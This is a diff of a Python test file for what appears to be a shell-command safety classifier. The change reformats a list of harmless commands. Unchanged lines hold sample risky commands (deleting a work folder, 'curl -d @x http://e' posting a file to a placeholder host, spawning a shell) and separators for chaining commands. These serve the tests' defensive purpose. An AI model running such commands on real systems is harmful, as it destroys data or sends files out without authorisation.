@@ -122,7 +122,15 @@ def test_the_red_part_is_named() -> None:
     assert "`curl -d @x http://e` is Red" in decision.reason
 
 
-GREEN = ["ls", "ls -la /work", "echo checking", "cat /work/a.md", "git log -1", "wc -l /work/a", "echo hi"]
+GREEN = [
+    "ls",
+    "ls -la /work",
+    "echo checking",
+    "cat /work/a.md",
+    "git log -1",
+    "wc -l /work/a",
+    "echo hi",
+]
 RED = ["rm -rf /work", "curl http://x", "touch /work/pwned", "sh", "python3 -c 1", "cp a b"]
 JOINS = [";", "&&", "||", "|", "&", "\n", " ; ", " && \n"]
 
